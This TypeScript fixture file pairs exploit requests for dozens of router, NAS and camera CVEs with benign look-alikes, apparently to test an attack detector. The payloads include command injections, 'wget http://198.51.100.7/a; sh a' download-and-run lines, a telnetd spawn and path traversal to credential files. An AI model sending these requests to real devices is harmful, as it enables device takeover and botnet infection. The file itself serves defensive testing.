import type { Cases } from './cases.ts';

export const routers: Cases = {
  'CVE-2015-2051': [
    'POST /HNAP1/\nSOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`wget http://198.51.100.7/a`"',
    'POST /soap/\nSOAPAction: "http://purenetworks.com/GetDeviceSettings"',
  ],
  'hnap-discovery': ['GET /HNAP1/', 'GET /docs/hnap1.html'],
  'themoon-linksys': ['POST /tmUnblock.cgi\n\nsubmit_button=&ttcp_ip=-h+`id`', 'GET /unblock.cgi'],
  'CVE-2018-10561': [
    'POST /GponForm/diag_Form?images/\n\nXWebPageName=diag&diag_action=ping&dest_host=`id`',
    'GET /form/diag?images',
  ],
  'CVE-2014-8361': [
    'POST /picsdesc.xml\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\n\n<NewInternalClient>`cd /tmp`</NewInternalClient>',
    'POST /upnp/control\n\n<NewInternalClient>192.0.2.7</NewInternalClient>',
  ],
  'CVE-2021-35394': ['bytes:orf;cd /tmp; wget http://198.51.100.7/a; sh a', 'bytes:orf;status'],
  'CVE-2017-17215': [
    'POST /ctrlt/DeviceUpgrade_1\n\n<NewStatusURL>$(id)</NewStatusURL>',
    'POST /ctrl/DeviceUpgrade\n\n<a/>',
  ],
  'CVE-2016-6277': [
    'GET /cgi-bin/;cd$IFS/tmp;wget$IFShttp://198.51.100.7/a',
    'GET /cgi-bin/a.cgi;jsessionid=1',
  ],
  'netgear-dgn-setup': [
    'GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1',
    'GET /setup.cgi?next_file=index.htm',
  ],
  'netgear-currentsetting': ['GET /currentsetting.htm', 'GET /settings.htm'],
  'CVE-2017-6334': [
    'POST /dnslookup.cgi\n\nhost_name=www.a.example; id&lookup=Lookup',
    'POST /dnslookup.cgi\n\nhost_name=www.a.example',
  ],
  'CVE-2016-1555': [
    'POST /boardDataWW.php\n\nmacAddress=112233445566%3Bid%23&reginfo=0&writeData=Submit',
    'POST /boards/data.php\n\na=b',
  ],
  'CVE-2016-10174': [
    'POST /apply_noauth.cgi?/lang_check.html+timestamp=1\n\nsubmit_flag=select_language&hidden_lang_avi=a',
    'POST /apply.cgi\n\ntimestamp=1',
  ],
  'CVE-2019-16920': [
    'POST /apply_sec.cgi\n\nhtml_response_page=login_pic.asp&action=ping_test&ping_ipaddr=127.0.0.1%0a`id`',
    'POST /apply_sec.cgi\n\naction=ping_test&ping_ipaddr=192.0.2.7',
  ],
  'CVE-2018-6530': ['POST /soap.cgi?service=&&telnetd&&\n\n<a/>', 'POST /soap.cgi?service=WANIPConn1'],
  'CVE-2019-17621': ['SUBSCRIBE /gena.cgi?service=`id`', 'SUBSCRIBE /gena.cgi?service=0'],
  'CVE-2020-25506': [
    'POST /cgi-bin/system_mgr.cgi?\n\nC1=ON&cmd=cgi_ntp_time&f_ntp_server=`id`',
    'GET /cgi-bin/system_mgr.cgi',
  ],
  'CVE-2024-3273': [
    'GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=',
    'GET /cgi-bin/sharing.cgi?user=a',
  ],
  'CVE-2024-10914': [
    'GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27',
    'GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=mara',
  ],
  'CVE-2024-0769': [
    'POST /hedwig.cgi\n\n<?xml version="1.0"?><postxml><module><service>../../../htdocs/webinc/getcfg/DEVICE.ACCOUNT.xml</service></module></postxml>',
    'POST /hedwig.cgi\n\n<postxml><module><service>INET.LAN-1</service></module></postxml>',
  ],
  'CVE-2013-7471': [
    'POST /soap.cgi?service=WANIPConn1\n\n<NewInternalClient>`telnetd`</NewInternalClient>',
    'POST /soap.cgi?service=WANIPConn1\n\n<NewInternalClient>192.0.2.7</NewInternalClient>',
  ],
  'dlink-getcfg-account': [
    'POST /getcfg.php\n\nSERVICES=DEVICE.ACCOUNT&AUTHORIZED_GROUP=1',
    'GET /getcfg.php',
  ],
  'CVE-2016-20017': [
    'GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/a;%27$',
    'GET /login.cgi?cli=mara',
  ],
  'CVE-2021-45382': ['POST /ddns_check.ccp\n\nccp_act=doCheck&ddnsHostName=;id;', 'GET /ddns.ccp'],
  'CVE-2013-3307': [
    'POST /apply.cgi\n\nsubmit_button=Diagnostics&ping_ip=|id|',
    'POST /apply.cgi\n\nping_ip=192.0.2.7',
  ],
  'realtek-formsyscmd': [
    'POST /boafrm/formSysCmd\n\nsysCmd=id&apply=Apply',
    'POST /boafrm/formStatus\n\na=b',
  ],
  'CVE-2020-8515': [
    'POST /cgi-bin/mainfunction.cgi\n\naction=login&keyPath=%27%0A/bin/sh${IFS}-c${IFS}id%0A%27&loginUser=a',
    'POST /cgi-bin/mainfunction.cgi\n\naction=login',
  ],
  'CVE-2020-15415': ['POST /cgi-bin/mainfunction.cgi/cvmcfgupload\n\na', 'GET /cgi-bin/function.cgi/upload'],
  'CVE-2024-12987': [
    'GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=x',
    'GET /cgi-bin/main.cgi/upload?session=x',
  ],
  'CVE-2018-14847': [
    'bytes:h\x01\x00fM2\x05\x00\xff/////./..//////./..//////./../flash/rw/store/user.dat',
    'bytes:/store/user.data/list',
  ],
  'CVE-2020-10987': [
    'GET /goform/setUsbUnload/.js?deviceName=A;id',
    'GET /goform/setUsbUnload/.js?deviceName=sda',
  ],
  'CVE-2022-26258': ['POST /get_set.ccp\n\nccp_act=set&deviceName=$(id)', 'POST /get_set.ccp\n\nccp_act=set'],
  'CVE-2023-25280': ['POST /ping.ccp\n\nccp_act=ping_v6&ping_addr=$(id)', 'GET /ping.ccp'],
  'CVE-2022-26186': [
    'POST /cgi-bin/cstecgi.cgi\n\n{"topicurl":"setting/setWebWlanIdx","webWlanIdx":";id;"}',
    'POST /cgi-bin/cstecgi.cgi\n\n{"topicurl":"getStatusCfg"}',
  ],
  'CVE-2022-25075': ['GET /cgi-bin/downloadFlile.cgi?payload=`id`', 'GET /cgi-bin/downloadFlile.cgi'],
  'CVE-2014-9118': ['GET /zhnping.cmd?&test=ping&sessionKey=1&ipAddr=1.1.1.1;id', 'GET /ping.cmd?a=1'],
  'CVE-2017-18368': [
    'POST /cgi-bin/ViewLog.asp\n\nremote_submit_Flag=1&remote_host=%3bid%3b%23&remoteSubmit=Save',
    'GET /cgi-bin/ViewLog.asp',
  ],
  'CVE-2020-9377': ['POST /command.php\n\ncmd=id', 'GET /command.php'],
  'CVE-2020-8958': [
    'POST /boaform/admin/formPing\n\ntarget_addr=;id&waninf=1',
    'POST /boaform/admin/formPing\n\ntarget_addr=192.0.2.7',
  ],
  'boaform-login': [
    'GET /boaform/admin/formLogin?username=admin&psd=admin',
    'GET /form/admin/login?username=admin',
  ],
  'CVE-2018-14933': [
    'GET /upgrade_handle.php?cmd=writeuploaddir&uploaddir=%27;id;%27',
    'GET /upgrade.php?cmd=write',
  ],
  'CVE-2019-7256': [
    'GET /card_scan_decoder.php?No=30&door=%60id%60',
    'GET /card_scan_decoder.php?No=30&door=2',
  ],
  'CVE-2021-33544': [
    'GET /uapi-cgi/certmngr.cgi?action=createselfcert&local=anything&country=AA&commonname=$(id)',
    'GET /uapi-cgi/certmngr.cgi',
  ],
  'CVE-2021-20158': [
    'POST /apply_sec.cgi\n\nccp_act=set&ccpSubEvent=CCP_SUB_WEBPAGE_APPLY&admin_password=a',
    'POST /apply_sec.cgi\n\nccp_act=get',
  ],
  'CVE-2023-1698': [
    'POST /wbm/plugins/wbm-legal-information/platform/pfcXXX/licenses.php\n\n{"package":";id;#"}',
    'GET /wbm/licenses.php',
  ],
  'CVE-2023-26801': [
    'POST /goform/set_LimitClient_cfg\n\ntime1=00:00-00:00&mac=;id;',
    'GET /goform/get_client',
  ],
  'CVE-2024-12856': [
    'POST /apply.cgi\n\nchange_action=gozila_cgi&submit_type=adjust_sys_time&adj_time_year=$(id)',
    'POST /apply.cgi\n\nadj_time_year=2026',
  ],
  'CVE-2024-7120': [
    'GET /vpn/list_base_config.php?type=mod&parts=base_config&template=%60id%60',
    'GET /vpn/list.php?template=a',
  ],
  'CVE-2021-46422': [
    'GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=id',
    'GET /cgi-bin/admin.cgi?Command=status',
  ],
};
